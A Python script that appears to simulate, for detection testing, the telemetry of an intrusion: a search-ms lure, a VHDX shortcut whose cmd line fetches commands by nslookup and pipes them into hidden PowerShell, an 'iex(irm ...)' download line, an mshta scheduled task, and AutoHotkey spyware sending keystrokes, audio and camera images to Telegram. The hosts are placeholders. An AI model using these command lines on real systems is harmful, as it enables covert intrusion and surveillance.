"""A page's search-ms link shows a server's folder; a link on a mounted VHDX has nslookup fetch a command for `|
powershell -`; AutoHotkey logs keys, clipboard, screen, microphone and camera, and mshta restarts it. It resembles
spies of small businesses."""
from scenery import Desktop

SETTING = {"start": "2024-06-04T08:17:33", "user": "LAPTOP-VRS2\\giulia", "home": "C:\\Users\\giulia",
           "computer": "LAPTOP-VRS2", "os_version": (10, 0, 22631), "local_address": "192.168.1.23"}
MICROSOFT = {"company": "Microsoft Corporation"}
EDGE = r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe"
HOTKEY = {"company": "AutoHotkey Foundation LLC", "description": "AutoHotkey 64-bit", "version": "2.0.12"}
USER_SID = "S-1-5-21-1004336348-1177238915-682003330-1001"
CONSENT = r"HKCU\Software\Microsoft\Windows\CurrentVersion\CapabilityAccessManager\ConsentStore"
CACHE = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache"
GUID = "{B7E0A3F4-1C6B-4F0D-A1D5-9E4E8C2B6D30}"
NAMES, STAGE, TELEGRAM = ("203.0.113.53", 53), ("203.0.113.54", 443), ("192.0.2.167", 443)
HOME = r"C:\Users\Public\Libraries\Audio"


def done_by(c, *processes):
    """The doers of behaviours whose processes start within them."""
    for behaviour in c.behaviours:
        behaviour.pids = behaviour.pids or {process.pid for process in processes}


def search_page(c, desktop, edge, client):
    """The page's link makes Explorer search a folder of a server."""
    link = ("search-ms:query=Fattura&crumb=location:\\\\docs-share.example@SSL\\DavWWWRoot\\fatture"
            "&displayname=Download")
    with c.behaviour("the browser opens a search in a server's folder", "high",
                     ("T1204.001", "T1566.002", "T1105", "T1021.002"), (), ("search-ms", "docs-share.example@SSL")):
        window = c.spawn(edge, c.system_root + "\\explorer.exe", '"C:\\Windows\\explorer.exe" "%s"' % link, **MICROSOFT)
        helper = c.spawn(client, c.system_root + r"\System32\rundll32.exe",
                         "rundll32.exe C:\\Windows\\system32\\davclnt.dll,"
                         "DavSetCookie docs-share.example@SSL https://docs-share.example/fatture/", user=c.user,
                         integrity="Medium", session=1, sid=USER_SID, **MICROSOFT)
        c.load(helper, c.system_root + r"\System32\davclnt.dll")
        c.exchange(client, STAGE, 50280, [420, 260], [5_600, 327_680])
        c.exit(helper)
        c.read(window, r"\\docs-share.example@SSL\DavWWWRoot\fatture\Fattura_0604.vhdx", 327_680)
        c.drop(window, c.home + r"\Downloads\Fattura_0604.vhdx", 327_680)
    done_by(c, edge, window, helper, client)
    c.exit(window)


def click_link(c, desktop):
    """The image stands as drive H:; its only visible file is a link."""
    system32 = c.system_root + "\\System32\\"
    c.read(desktop.explorer, c.home + r"\Downloads\Fattura_0604.vhdx", 65_536)
    c.read(desktop.explorer, r"H:\Fattura_0604.pdf.lnk", 2_410)
    line = (r'"C:\Windows\System32\cmd.exe" /v /c "start /min H:\_\f.pdf & for /f "tokens=2 delims==" %a in '
            "('nslookup -type^=txt u.docs-share.example 203.0.113.53 ^| find \"x=\"') do "
            '(echo %~a| powershell -nop -w 1 -)"')
    with c.behaviour("a link on a mounted disk image starts cmd", "high", ("T1204.002", "T1553.005", "T1059.003"), (),
                     ("H:\\_", "nslookup")):
        shell = c.spawn(desktop.explorer, system32 + "cmd.exe", line, directory="H:\\", **MICROSOFT)
        c.read(shell, r"H:\_\f.pdf", 71_000)
    done_by(c, shell)
    with c.behaviour("nslookup fetches a command as text of a name from a server of its own", "high",
                     ("T1071.004", "T1105"), (), ("nslookup", NAMES[0])):
        inner = c.spawn(shell, system32 + "cmd.exe",
                        r"C:\Windows\system32\cmd.exe /c nslookup -type=txt u.docs-share.example "
                        r'203.0.113.53 | find "x="', directory="H:\\", **MICROSOFT)
        asker = c.spawn(inner, system32 + "nslookup.exe", "nslookup  -type=txt u.docs-share.example 203.0.113.53",
                        directory="H:\\", **MICROSOFT)
        finder = c.spawn(inner, system32 + "find.exe", 'find  "x="', directory="H:\\", **MICROSOFT)
        for port, sent, received in ((61201, 43, 43), (61202, 41, 410)):
            c.net(asker, "Send", NAMES, port, sent, is_tcp=False)
            c.wait(0.04)
            c.net(asker, "Receive", NAMES, port, received, is_tcp=False)
    done_by(c, shell, inner, asker)
    for process in (asker, finder, inner):
        c.exit(process)
    with c.behaviour("PowerShell takes its commands from a pipe, without a window", "high", ("T1059.001", "T1564.003"), (),
                     ("powershell", "-w 1")):
        piper = c.spawn(shell, system32 + "cmd.exe",
                        'C:\\Windows\\system32\\cmd.exe  /S /D /c" echo iex(irm docs-share.example/h.txt)"',
                        directory="H:\\", **MICROSOFT)
        power = c.spawn(shell, system32 + r"WindowsPowerShell\v1.0\powershell.exe", "powershell  -nop -w 1 -",
                        directory="H:\\", **MICROSOFT)
        c.load(power, r"C:\Windows\assembly\NativeImages_v4.0.30319_64\System.Manaa57fc8cc#\77a0"
                      r"\System.Management.Automation.ni.dll")
    done_by(c, shell, power)
    c.exit(piper)
    return shell, power


def register_task(c, desktop, name):
    """The Schedule service notes a task."""
    host = desktop.scheduler
    c.drop(host, r"C:\Windows\System32\Tasks" + "\\" + name, 3_290)
    c.key(host, CACHE + r"\Tree" + "\\" + name, new=True)
    c.set_value(host, CACHE + r"\Tree" + "\\" + name + r"\Id", "REG_SZ", GUID)
    c.set_value(host, CACHE + r"\Tree" + "\\" + name + r"\Index", "REG_DWORD", 3)
    c.key(host, CACHE + r"\Tasks" + "\\" + GUID, new=True)
    c.set_value(host, CACHE + r"\Tasks" + "\\" + GUID + r"\Path", "REG_SZ", "\\" + name)
    c.set_value(host, CACHE + r"\Tasks" + "\\" + GUID + r"\Actions", "REG_BINARY", bytes(110))


def append(c, process, path, offset, length):
    c.open(process, path, 0x120116, 3)
    c.write_at(process, path, offset, length)
    c.close(process, path)


def may_use(c, keeper, image, device):
    """Windows notes which desktop program uses a device, and since when."""
    key = CONSENT + "\\" + device + "\\NonPackaged\\" + image.replace("\\", "#")
    c.key(keeper, key, new=True)
    c.set_value(keeper, key + r"\LastUsedTimeStart", "REG_BINARY", bytes(8))
    c.set_value(keeper, key + r"\LastUsedTimeStop", "REG_BINARY", bytes(8))


def listen(c, agent, keeper):
    """Keys and clipboard as text, pictures, sound and the camera as files."""
    data = c.home + r"\AppData\Roaming\AudioSvc"
    c.folder(agent, data)
    with c.behaviour("appends what is typed to a log", "medium", "T1056.001", agent, "keylog_"):
        c.drop(agent, data + r"\keylog_0604.txt", 70)
        for turn in range(14):
            append(c, agent, data + r"\keylog_0604.txt", 70 + 44 * turn, 44)
            c.wait(4)
    with c.behaviour("appends the clipboard to a log", "medium", "T1115", agent, "clipboard.log"):
        c.drop(agent, data + r"\clipboard.log", 30)
        for turn in range(5):
            append(c, agent, data + r"\clipboard.log", 30 + 120 * turn, 120)
            c.wait(9)
    c.load(agent, c.system_root + r"\System32\gdiplus.dll")
    with c.behaviour("writes a picture of the screen each half minute", "medium", "T1113", agent, (r"\scr", ".png")):
        for turn in range(6):
            c.drop(agent, data + r"\scr_08%02d%02d.png" % (20 + turn // 2, 30 * (turn % 2)), 210_000)
            c.wait(30)
    with c.behaviour("records the microphone, piece by piece", "medium", "T1123", (agent, keeper), ("mic_", "microphone")):
        for library in ("MMDevAPI.dll", "AudioSes.dll"):
            c.load(agent, c.system_root + "\\System32\\" + library)
        may_use(c, keeper, agent.image, "microphone")
        for turn in range(3):
            c.drop(agent, data + r"\mic_%03d.wav" % turn, 480_044)
            c.wait(60)
    with c.behaviour("takes pictures with the camera", "medium", "T1125", (agent, keeper), ("cam_", "webcam")):
        for library in ("mf.dll", "mfreadwrite.dll"):
            c.load(agent, c.system_root + "\\System32\\" + library)
        may_use(c, keeper, agent.image, "webcam")
        for turn in range(3):
            c.drop(agent, data + r"\cam_%03d.jpg" % turn, 88_000)
            c.wait(20)
    with c.behaviour("sends recordings to a bot of Telegram", "high", ("T1567", "T1102", "T1041", "T1102.002", "T1071.001"),
                     agent, "api.telegram.org"):
        for turn, (name, size) in enumerate((("keylog_0604.txt", 700), ("mic_000.wav", 480_044), ("mic_001.wav", 480_044),
                                             ("cam_000.jpg", 88_000))):
            c.read(agent, data + "\\" + name, size)
            c.exchange(agent, TELEGRAM, 50410 + turn, [517, 420] + [65_536] * (size // 65_536) + [size % 65_536],
                       [4_100, 610])


def story(c):
    desktop = Desktop(c)
    system32 = c.system_root + "\\System32\\"
    keeper = c.system(system32 + "svchost.exe", system32 + "svchost.exe -k appmodel -p -s camsvc", parent=desktop.services)
    client = c.process(system32 + "svchost.exe", desktop.services,
                       system32 + "svchost.exe -k LocalService -p -s WebClient", started_before=True,
                       user="NT AUTHORITY\\LOCAL SERVICE", integrity="System", session=0, sid="S-1-5-19",
                       **MICROSOFT)
    c.host(STAGE[0], "docs-share.example")
    c.host(TELEGRAM[0], "api.telegram.org")
    desktop.murmur(4)
    page = c.home + r"\Downloads\Fattura_elettronica.html"
    edge = c.spawn(desktop.explorer, EDGE, '"%s" --single-argument %s' % (EDGE, page), description="Microsoft Edge",
                   **MICROSOFT)
    c.read(edge, page, 4_300)
    search_page(c, desktop, edge, client)
    shell, power = click_link(c, desktop)
    desktop.resolve(55020)
    c.exchange(power, STAGE, 50300, [310, 180], [5_100])
    with c.behaviour("brings AutoHotkey along under another name, with a script, into the public Libraries", "medium",
                     ("T1105", "T1059.010", "T1036"), power, ("audiodg64.exe", "audiodg64.ahk")):
        c.exchange(power, STAGE, 50301, [320, 180], [15_900] * 6)
        c.folder(power, HOME)
        c.drop(power, HOME + r"\audiodg64.exe", 1_230_000, chunk=262_144)
        c.drop(power, HOME + r"\audiodg64.ahk", 27_300)
        c.drop(power, HOME + r"\up.hta", 1_940)
    task = "AudioEndpointRefresh"
    short = r"C:\Users\Public\LIBRAR~1\Audio\up.hta"
    with c.behaviour("makes a task that has mshta open a user's file", "high", "T1053.005", (), (task, "up.hta")):
        maker = c.spawn(power, system32 + "schtasks.exe",
                        '"%sschtasks.exe" /create /tn %s /sc minute /mo 15 /tr "mshta %s" /f' % (
            system32, task, short), **MICROSOFT)
        c.load(maker, system32 + "taskschd.dll")
        register_task(c, desktop, task)
    done_by(c, power, maker)
    c.exit(maker)
    c.exit(power)
    c.exit(shell)
    desktop.murmur(4)
    c.wait(900)
    with c.behaviour("the task starts mshta with the user's file", "high", ("T1053.005", "T1218.005"), (),
                     ("mshta", "up.hta")):
        host = c.spawn(desktop.scheduler, system32 + "mshta.exe", "mshta " + short, user=c.user, integrity="Medium",
                       session=1, sid=USER_SID, **MICROSOFT)
        c.load(host, system32 + "mshtml.dll")
        c.read(host, HOME + r"\up.hta", 1_940)
    done_by(c, desktop.scheduler, host, power)
    with c.behaviour("mshta starts AutoHotkey of a public folder with a script beside it", "high",
                     ("T1059.010", "T1218.005", "T1036"), (), ("audiodg64.ahk", "audiodg64.exe")):
        agent = c.spawn(host, HOME + r"\audiodg64.exe", '"%s\\audiodg64.exe" /f "%s\\audiodg64.ahk"' % (HOME, HOME),
                        **HOTKEY)
        c.read(agent, HOME + r"\audiodg64.ahk", 27_300)
    done_by(c, host, agent)
    c.exit(host)
    listen(c, agent, keeper)
    desktop.murmur(3)
